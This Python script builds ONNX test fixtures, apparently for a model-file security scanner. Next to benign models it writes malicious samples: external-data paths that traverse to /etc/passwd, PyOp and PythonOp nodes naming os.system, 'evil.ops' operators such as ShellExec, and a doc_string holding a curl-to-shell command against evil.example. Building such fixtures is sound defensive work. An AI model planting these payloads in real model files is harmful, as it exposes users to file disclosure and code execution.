"""Build the ONNX fixtures in ``tests/assets/onnx/`` with the real ``onnx`` library (fixture time only).

    pip install onnx            # torch (+ onnxscript) optional: adds models exported by torch.onnx
    python tests/assets/make_onnx.py

Benign models come from ``onnx.helper`` and, when torch is installed, from ``torch.onnx.export``.
Malicious ones reproduce the published shapes: external-data locations that are absolute
(CVE-2022-25882), start with '..' (CVE-2022-25882), hide '..' after a sub-folder (CVE-2024-27318), use
onnxruntime's in-memory address marker, or inject unknown ExternalDataInfo keys (GHSA-538c-55jv-c5g9);
custom-domain operators (also inside an If branch); a Python-calling contrib op. Symlink and hard-link
cases are created by the tests themselves (git does not carry them portably).

``--extra-only`` (issue 9) adds without touching the rest: PyOp / PythonOp nodes as onnxruntime-extensions
and torch name them (default domain, ``ai.onnx.contrib``), a model-local function that happens to be
called PyOp, onnxruntime-extensions native string ops, and more ordinary exports (torch conv/LSTM models,
scikit-learn pipelines through skl2onnx when it is installed)::

    pip install onnx onnxscript skl2onnx scikit-learn torch==2.13.0
    python tests/assets/make_onnx.py --extra-only
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

OUT = Path(__file__).resolve().parent / "onnx"


def _io(name: str, shape: list[int]) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, shape)


def _model(nodes: list[onnx.NodeProto], inits: list[TensorProto] | None = None,
           opsets: list[tuple[str, int]] | None = None, **kw: object) -> onnx.ModelProto:
    graph = helper.make_graph(nodes, "g", [_io("X", [2, 4])], [_io("Y", [2, 4])], inits or [])
    ops = [helper.make_opsetid(d, v) for d, v in (opsets or [("", 17)])]
    return helper.make_model(graph, opset_imports=ops, producer_name="mlvet-fixtures", **kw)


def _external_tensor(name: str, entries: dict[str, str]) -> TensorProto:
    t = TensorProto()
    t.name = name
    t.data_type = TensorProto.FLOAT
    t.dims.extend([4, 4])
    t.data_location = TensorProto.EXTERNAL
    for k, v in entries.items():
        e = t.external_data.add()
        e.key, e.value = k, v
    return t


def _save_dir(name: str, model: onnx.ModelProto) -> None:
    d = OUT / name
    d.mkdir(parents=True, exist_ok=True)
    (d / "model.onnx").write_bytes(model.SerializeToString())


def benign() -> None:
    w = numpy_helper.from_array(np.ones((4, 4), np.float32), "W")
    then_g = helper.make_graph([helper.make_node("Relu", ["Z"], ["T"])], "then", [], [_io("T", [2, 4])])
    else_g = helper.make_graph([helper.make_node("Neg", ["Z"], ["E"])], "else", [], [_io("E", [2, 4])])
    nodes = [
        helper.make_node("MatMul", ["X", "W"], ["Z"]),
        helper.make_node("Constant", [], ["C"], value=numpy_helper.from_array(np.array(True))),
        helper.make_node("If", ["C"], ["Y"], then_branch=then_g, else_branch=else_g),
    ]
    m = _model(nodes, [w], doc_string="A small benign model with an If sub-graph.")
    m.metadata_props.add(key="license", value="Apache-2.0")
    onnx.checker.check_model(m)
    onnx.save(m, OUT / "benign.onnx")

    big = numpy_helper.from_array(np.arange(64 * 4, dtype=np.float32).reshape(4, 64), "W")
    g = helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["Y"])], "g", [_io("X", [2, 4])],
                          [_io("Y", [2, 64])], [big])
    m2 = helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)])
    d = OUT / "benign_external"
    d.mkdir(exist_ok=True)
    onnx.save_model(m2, d / "model.onnx", save_as_external_data=True, all_tensors_to_one_file=True,
                    location="model.onnx.data", size_threshold=0)
    onnx.checker.check_model(str(d / "model.onnx"))

    # A model-local function in its own domain, called by a node: not a custom op.
    fn = helper.make_function("local.fn", "Double", ["a"], ["b"], [helper.make_node("Add", ["a", "a"], ["b"])],
                              [helper.make_opsetid("", 17)])
    m3 = _model([helper.make_node("Double", ["X"], ["Y"], domain="local.fn")],
                opsets=[("", 17), ("local.fn", 1)], functions=[fn])
    onnx.checker.check_model(m3)
    onnx.save(m3, OUT / "local_function.onnx")


def torch_exports() -> None:
    try:
        import torch  # noqa: TID251
    except ImportError:
        print("torch not installed: skipping torch.onnx exports")
        return

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(4, 3)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.nn.functional.gelu(self.lin(x)).softmax(-1)

    torch.manual_seed(0)
    torch.onnx.export(Net(), (torch.randn(1, 4),), str(OUT / "torch_legacy.onnx"), dynamo=False)
    try:
        d = OUT / "torch_dynamo"
        d.mkdir(exist_ok=True)
        torch.onnx.export(Net(), (torch.randn(1, 4),), str(d / "model.onnx"), dynamo=True)
    except Exception as exc:
        print(f"dynamo export skipped: {exc}")


def malicious() -> None:
    # Custom domain operator at top level and inside an If branch.
    m = _model([helper.make_node("ShellExec", ["X"], ["Y"], domain="evil.ops", cmd="id")],
               opsets=[("", 17), ("evil.ops", 1)])
    onnx.save(m, OUT / "custom_domain.onnx")
    branch = helper.make_graph([helper.make_node("Exfiltrate", ["X"], ["T"], domain="evil.ops")], "b", [],
                               [_io("T", [2, 4])])
    nodes = [helper.make_node("Constant", [], ["C"], value=numpy_helper.from_array(np.array(True))),
             helper.make_node("If", ["C"], ["Y"], then_branch=branch, else_branch=branch)]
    onnx.save(_model(nodes, opsets=[("", 17), ("evil.ops", 1)]), OUT / "custom_in_subgraph.onnx")
    onnx.save(_model([helper.make_node("FusedGemm", ["X", "X"], ["Y"], domain="com.microsoft")],
                     opsets=[("", 17), ("com.microsoft", 1)]), OUT / "contrib_op.onnx")
    onnx.save(_model([helper.make_node("PythonOp", ["X"], ["Y"], domain="com.microsoft",
                                       func_name="evil.module.Function")],
                     opsets=[("", 17), ("com.microsoft", 1)]), OUT / "python_op.onnx")

    def ext(name: str, entries: dict[str, str]) -> None:
        t = _external_tensor("W", entries)
        _save_dir(name, _model([helper.make_node("MatMul", ["X", "W"], ["Y"])], [t]))

    ext("ext_traversal", {"location": "../../../../../../etc/passwd"})
    ext("ext_absolute", {"location": "/etc/passwd"})
    ext("ext_nested_traversal", {"location": "weights/../../../../../etc/passwd"})
    ext("ext_ort_mem_addr", {"location": "*/_ORT_MEM_ADDR_/*", "offset": "4096", "length": "64"})
    ext("ext_attr_injection", {"location": "w.bin", "__class__": "x", "offset": "-8"})
    (OUT / "ext_attr_injection" / "w.bin").write_bytes(b"\0" * 64)
    ext("ext_missing", {"location": "weights.bin"})
    # External data on a Constant node's attribute tensor (not an initializer).
    t = _external_tensor("C", {"location": "../../etc/hostname"})
    _save_dir("ext_in_attribute", _model([helper.make_node("Constant", [], ["Y"], value=t)]))

    m = _model([helper.make_node("Relu", ["X"], ["Y"])],
               doc_string="helper: import os; os.system('curl http://evil.example/x | sh')")
    onnx.save(m, OUT / "code_in_doc_string.onnx")


def python_ops() -> None:
    """Nodes that call registered Python: onnxruntime-extensions' PyOp and ORTModule/torch's PythonOp."""
    # onnxruntime-extensions: Python functions live in its registry under the ai.onnx.contrib domain.
    onnx.save(_model([helper.make_node("PyOp", ["X"], ["Y"], domain="ai.onnx.contrib", name="hook",
                                       op_type_name="os.system", command="touch /tmp/mlvet_onnx_poc")],
                     opsets=[("", 17), ("ai.onnx.contrib", 1)]), OUT / "pyop_contrib.onnx")
    # The same node in the default domain (the advisory's second shape).
    onnx.save(_model([helper.make_node("PyOp", ["X"], ["Y"], name="hook", op_type_name="os.system")]),
              OUT / "pyop_default.onnx")
    # torch's fallthrough export of an autograd.Function: prim::PythonOp with the function's name.
    onnx.save(_model([helper.make_node("PythonOp", ["X"], ["Y"], domain="prim", name="fn",
                                       name_s="MyFunction", module_s="evil.ops", inplace_i=0)],
                     opsets=[("", 17), ("prim", 1)]), OUT / "pythonop_prim.onnx")
    # A model-local *function* named PyOp is a graph, not Python: not a Python op.
    fn = helper.make_function("local.fn", "PyOp", ["a"], ["b"], [helper.make_node("Relu", ["a"], ["b"])],
                              [helper.make_opsetid("", 17)])
    m = _model([helper.make_node("PyOp", ["X"], ["Y"], domain="local.fn")],
               opsets=[("", 17), ("local.fn", 1)], functions=[fn])
    onnx.checker.check_model(m)
    onnx.save(m, OUT / "local_function_named_pyop.onnx")


def extensions_native_ops() -> None:
    """onnxruntime-extensions native string kernels (C++, shipped in its library): ordinary models."""
    s_in = helper.make_tensor_value_info("text", TensorProto.STRING, [None])
    s_out = helper.make_tensor_value_info("out", TensorProto.STRING, [None])
    pattern = numpy_helper.from_array(np.array(["[0-9]+"], dtype=object), "pattern")
    rewrite = numpy_helper.from_array(np.array(["#"], dtype=object), "rewrite")
    g = helper.make_graph([
        helper.make_node("StringLower", ["text"], ["low"], domain="ai.onnx.contrib"),
        helper.make_node("StringRegexReplace", ["low", "pattern", "rewrite"], ["out"], domain="ai.onnx.contrib"),
    ], "strings", [s_in], [s_out], [pattern, rewrite])
    m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.contrib", 1)],
                          producer_name="mlvet-fixtures")
    onnx.save(m, OUT / "extensions_strings.onnx")


def library_exports() -> None:
    """More ordinary exports: torch conv / recurrent / attention models and scikit-learn pipelines."""
    try:
        import torch  # noqa: TID251
    except ImportError:
        print("torch not installed: skipping torch.onnx exports")
    else:
        class Conv(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.conv = torch.nn.Conv2d(3, 4, 3)
                self.bn = torch.nn.BatchNorm2d(4)
                self.head = torch.nn.Linear(4, 2)

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                y = torch.relu(self.bn(self.conv(x)))
                return self.head(torch.nn.functional.adaptive_avg_pool2d(y, 1).flatten(1))

        class Seq(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.emb = torch.nn.Embedding(20, 8)
                self.lstm = torch.nn.LSTM(8, 8, batch_first=True)
                self.att = torch.nn.MultiheadAttention(8, 2, batch_first=True)
                self.norm = torch.nn.LayerNorm(8)

            def forward(self, ids: torch.Tensor) -> torch.Tensor:
                h, _ = self.lstm(self.emb(ids))
                a, _ = self.att(h, h, h)
                return self.norm(a + h).mean(1)

        torch.manual_seed(0)
        conv = Conv().eval()
        seq = Seq().eval()
        img = torch.randn(1, 3, 8, 8)
        ids = torch.randint(0, 20, (1, 5))
        torch.onnx.export(conv, (img,), str(OUT / "torch_conv_legacy.onnx"), dynamo=False)
        torch.onnx.export(seq, (ids,), str(OUT / "torch_seq_legacy.onnx"), dynamo=False, opset_version=17)
        for name, net, args in (("torch_conv_dynamo", conv, (img,)), ("torch_seq_dynamo", seq, (ids,))):
            try:
                d = OUT / name
                d.mkdir(exist_ok=True)
                torch.onnx.export(net, args, str(d / "model.onnx"), dynamo=True)
            except Exception as exc:
                print(f"dynamo export of {name} skipped: {exc}")
    try:
        from skl2onnx import to_onnx
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import StandardScaler
    except ImportError:
        print("skl2onnx / scikit-learn not installed: skipping")
        return
    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 4)).astype(np.float32)
    y = (x[:, 0] > 0).astype(np.int64)
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    onnx.save(to_onnx(pipe, x[:1], target_opset=17), OUT / "sklearn_logreg.onnx")
    forest = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(x, y)
    onnx.save(to_onnx(forest, x[:1], target_opset={"": 17, "ai.onnx.ml": 3}), OUT / "sklearn_forest.onnx")


def extra() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    python_ops()
    extensions_native_ops()
    library_exports()


if __name__ == "__main__":
    if "--extra-only" in sys.argv[1:]:
        extra()
        sys.exit(0)
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    benign()
    torch_exports()
    malicious()
    extra()
    total = sum(p.stat().st_size for p in OUT.rglob("*") if p.is_file())
    print(f"wrote {sum(1 for p in OUT.rglob('*') if p.is_file())} files, {total} bytes under {OUT}")
